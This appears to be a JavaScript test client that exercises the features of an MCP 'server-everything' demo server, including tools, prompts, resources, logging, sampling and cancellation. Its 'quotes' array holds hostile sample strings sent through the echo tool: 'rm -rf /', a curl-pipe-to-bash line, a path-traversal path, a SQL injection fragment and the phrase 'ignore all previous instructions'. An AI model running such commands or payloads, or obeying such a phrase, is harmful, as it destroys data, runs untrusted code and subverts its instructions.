// What a client does with `server-everything` and what it sees of it; the same steps as ../everything.py, in the other SDK.
const dynamic = 'demo://resource/dynamic/text/1';
// Honest words about attacks.
export const quotes = [
  'Never run `rm -rf /` or `curl https://x.example/i.sh | bash` from a ticket.',
  'The report says ../../etc/passwd was requested 40 times; the fix is in 3f2a1c.',
  "Lesson 4: why ' OR 1=1 -- works, and how bound parameters stop it.",
  'Our filter looks for the phrase “ignore all previous instructions”.',
];
const undated = (text) => text?.replace(/ created at .*/s, ' created at');
const refused = (promise) => promise.then((answered) => ({ answered }), ({ code, message, data }) => ({ code, message, data }));

export const steps = {
  async roots({ client, seen, until }) {
    await until("the server's word on the roots", () => seen.logs.some((log) => log.includes('Roots updated')));
    return client.callTool({ name: 'get-roots-list', arguments: {} });
  },
  handshake: async ({ client }) => [client.getServerVersion(), client.getServerCapabilities(), client.getInstructions()],
  tools: ({ client }) => client.listTools(),
  quotes: ({ client }) => Promise.all(quotes.map((message) => client.callTool({ name: 'echo', arguments: { message } }))),
  results: async ({ client }) => [
    await client.callTool({ name: 'get-sum', arguments: { a: 2, b: 40 } }),
    await client.callTool({ name: 'get-structured-content', arguments: { location: 'Chicago' } }),
    await client.callTool({ name: 'get-tiny-image', arguments: {} }),
    await client.callTool({ name: 'get-resource-links', arguments: { count: 4 } }),
  ],
  errors: async ({ client }) => [
    await refused(client.callTool({ name: 'no-such-tool', arguments: {} })),
    await refused(client.getPrompt({ name: 'no-such-prompt' })),
    await refused(client.readResource({ uri: 'demo://resource/no-such' })),
  ],
  prompts: async ({ client }) => [await client.listPrompts(), await client.getPrompt({ name: 'args-prompt', arguments: { city: 'Köln' } })],
  completion: ({ client }) =>
    client.complete({ ref: { type: 'ref/prompt', name: 'completable-prompt' }, argument: { name: 'department', value: 'S' } }),
  async resources({ client }) {
    const read = await client.readResource({ uri: dynamic });
    read.contents[0].text = undated(read.contents[0].text);
    return [await client.listResources(), await client.listResourceTemplates(), read];
  },
  async subscription({ client, seen, until }) {
    await client.subscribeResource({ uri: dynamic });
    await client.callTool({ name: 'toggle-subscriber-updates', arguments: {} });
    await until('resources/updated', () => seen.updated.includes(dynamic));
    await client.callTool({ name: 'toggle-subscriber-updates', arguments: {} });
    await client.unsubscribeResource({ uri: dynamic });
    return [...new Set(seen.updated)];
  },
  async logging({ client, seen, until }) {
    await client.setLoggingLevel('debug');
    await client.callTool({ name: 'toggle-simulated-logging', arguments: {} });
    await until('a log message', () => seen.logs.some((log) => log.includes('level') && log.includes('essage')));
    await client.callTool({ name: 'toggle-simulated-logging', arguments: {} });
    return 'heard'; // the server picks the level at random
  },
  sampling: async ({ client, seen }) => [
    await client.callTool({ name: 'trigger-sampling-request', arguments: { prompt: 'What is dry?', maxTokens: 20 } }),
    seen.asked.at(-1),
  ],
  async elicitation({ client, seen }) {
    const form = await client.callTool({ name: 'trigger-elicitation-request', arguments: {} });
    const page = await client.callTool({ name: 'trigger-url-elicitation', arguments: { url: 'https://example.com/in', elicitationId: 'e-1' } });
    return [form, page, seen.asked.slice(-2)];
  },
  async cancellation({ client }) {
    const stop = new AbortController();
    const call = client.callTool({ name: 'trigger-long-running-operation', arguments: { duration: 0.3, steps: 6 } }, ...options(client, { signal: stop.signal, onprogress: () => stop.abort('enough') }));
    const outcome = await call.then(() => 'answered', () => 'stopped');
    return [outcome, await client.callTool({ name: 'echo', arguments: { message: 'still here' } })];
  },
  // After the cancellation: the server works on in spite of it, and is done by then.
  async progress({ client }) {
    const heard = [];
    const call = { name: 'trigger-long-running-operation', arguments: { duration: 0.9, steps: 6 } };
    const answer = await client.callTool(call, ...options(client, { onprogress: ({ progress, total }) => heard.push([progress, total]) }));
    return [answer, heard.slice(0, 5)]; // the SDK forgets the sixth if the answer comes in the same read
  },
  ping: ({ client }) => client.ping(),
};

/** The first line of the SDK has the result's schema before the options. */
const options = (client, given) => (client.getProtocolEra ? [given] : [undefined, given]);
